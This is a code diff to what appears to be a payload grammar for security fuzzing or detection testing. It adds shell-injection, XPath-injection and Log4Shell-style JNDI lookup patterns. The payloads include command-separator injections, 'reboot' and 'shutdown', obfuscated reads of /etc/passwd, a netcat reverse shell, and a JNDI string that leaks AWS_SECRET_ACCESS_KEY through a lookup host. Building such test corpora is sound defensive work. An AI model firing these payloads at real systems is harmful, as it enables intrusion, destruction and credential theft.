@@ -18,7 +18,10 @@ SHELL: Grammar = {
     "start": ["<word><sep><command><end>", "<word><sep><space><command><end>", "$(<command>)", "`<command>`",
               "<word>$(<command>)<word>", "<word>`<command>`", "<word>\n<command>\n", "<word>'<sep><command><sep>'",
               "<word>\"<sep><command><sep>\"", "<word>) <sep> <command>", "{<braced>}", "<word>|<braces>",
-              "() { :;}; <command>", "<word> <sep> <windows>", "<windows_sep><windows>"],
+              "() { :;}; <command>", "<sep><brief><sep>", "'<sep><brief><sep>'", "<address><sep><brief>", "<word><sep> <brief>", "<word> <sep> <brief>", "\"|<brief>\"", "x.<ext>;<brief>", "<word> <sep> <windows>", "<windows_sep><windows>"],
+    "brief": ["id", "ls", "pwd", "whoami", "dir", "env", "ps", "uname", "hostname", "ver"],
+    "address": ["127.0.0.1", "8.8.8.8", "localhost", "10.0.0.1", "example.org"],
+    "ext": ["jpg", "png", "txt", "pdf"],
     "sep": [";", "|", "||", "&&", "&", "%0a", ";;", "| |"[0:1]],
     "space": [" ", "\t", "${IFS}", "$IFS$9", " "],
     "end": ["", "", "", " #", ";", " |", "&", " 2>&1", " > /dev/null"],
@@ -34,7 +37,7 @@ SHELL: Grammar = {
                 "head <file>", "base64 <file>", "echo aWQ= | base64 -d | sh", "w'h'o'a'm'i", "wh$@oami", "w\\ho\\am\\i",
                 "awk 'BEGIN{system(\"id\")}'", "find / -name x -exec id \\;", "php -r 'system(\"id\");'",
                 "env x='() { :;}; echo y' bash -c z", "a=wh;b=oami;$a$b", "sh -c id", "busybox nc <host> 1 -e sh",
-                "touch /tmp/p", "mkfifo /tmp/f", "hostname", "$(printf 'id')", "echo $HOME", "crontab -l", "sudo -l"],
+                "touch /tmp/p", "reboot", "shutdown -h now", "a=i;b=d;$a$b", "${PATH:0:1}bin${PATH:0:1}id", "who$()ami", "--use-askpass=/tmp/a", "cat ${HOME:0:1}etc${HOME:0:1}passwd", "mkfifo /tmp/f", "hostname", "$(printf 'id')", "echo $HOME", "crontab -l", "sudo -l"],
     "windows_sep": ["& ", "| ", "&& ", "|| ", "%0a", "\r\n"],
     "windows": ["dir c:\\", "type C:\\Windows\\win.ini", "ipconfig /all", "net user", "whoami /priv", "ver",
                 "ping -n <n> <host>", "powershell -nop -w hidden -enc SQBFAFgA", "systeminfo", "tasklist",
@@ -99,7 +102,7 @@ XPATH: Grammar = {
     **_WORDS,
     "start": ["<word>' or <test> or '<n>'='<n>", "<word>'] | //* | a['", "' or count(//*)=<n> or '", "<word>'] | //<node>[<n>]/text() | a['", "' or string-length(name(/*[<n>]))=<n> or 'a'='b",
               "<word>' or substring(name(/*[<n>]),1,1)='a", "x' or name()='<node>' or 'x'='y", "') or contains(.,'') or ('", "'] or position()=<n> or a['", "//<node>[position()=<n>]/child::node()[position()=<n>]", "' and doc('http://<host>/x') and '1'='1",
-              "x'+or+ancestor::node() or 'a'='b", "\" or \"<n>\"=\"<n>\" or //<node>/text()=\"", "' or //<node>/<node>[1]/text()='a"],
+              "x'+or+ancestor::node() or 'a'='b", "//<node>[position()=<n>]/<node>", "//*[local-name()='<node>']", "/*[<n>]/*[<n>]", "//<node>[last()]/<node>", "count(/child::node())", "name(/*[<n>])", "' or boolean(<n>) or '", "/descendant::<node>[<n>]", "//<node>[contains(name,'a')]", "//<node>/parent::*", "\" or \"<n>\"=\"<n>\" or //<node>/text()=\"", "' or //<node>/<node>[1]/text()='a"],
     "test": ["position()=1", "true()", "count(parent::*)=1", "string-length(//<node>)>1", "<n>=<n>", "contains(name(),'a')", "starts-with(//<node>,'a')"],
     "node": ["user", "password", "account", "node()", "*", "employee"],
 }  # fmt: skip
@@ -149,7 +152,7 @@ CODE: Grammar = {
 JNDI: Grammar = {
     **_WORDS,
     "start": ["<jndi>", "<word> <jndi>", "<jndi><word>"],
-    "jndi": ["${jndi:<jscheme>://<host>/a}", "${${lower:j}ndi:<jscheme>://<host>/a}", "${${::-j}${::-n}${::-d}${::-i}:<jscheme>://<host>/a}", "${jndi:<jscheme>://${env:AWS_SECRET_ACCESS_KEY}.<host>/}", "${jndi:${lower:l}${lower:d}ap://<host>/a}", "${${env:X:-j}ndi${env:X:-:}<jscheme>://<host>/}", "${sys:java.version}", "${env:PATH}", "${jnd${upper:ı}:<jscheme>://<host>/a}", "${j${k8s:k5:-ND}i:<jscheme>://<host>/}", "${${date:'j'}${date:'n'}di:dns://<host>}"],
+    "jndi": ["${jndi:<jscheme>://<host>/a}", "${dns:address|<host>}", "${url:UTF-8:http://<host>/}", "${script:javascript:x}", "${${lower:j}ndi:<jscheme>://<host>/a}", "${${::-j}${::-n}${::-d}${::-i}:<jscheme>://<host>/a}", "${jndi:<jscheme>://${env:AWS_SECRET_ACCESS_KEY}.<host>/}", "${jndi:${lower:l}${lower:d}ap://<host>/a}", "${${env:X:-j}ndi${env:X:-:}<jscheme>://<host>/}", "${sys:java.version}", "${env:PATH}", "${jnd${upper:ı}:<jscheme>://<host>/a}", "${j${k8s:k5:-ND}i:<jscheme>://<host>/}", "${${date:'j'}${date:'n'}di:dns://<host>}"],
     "jscheme": ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"],
 }  # fmt: skip
 
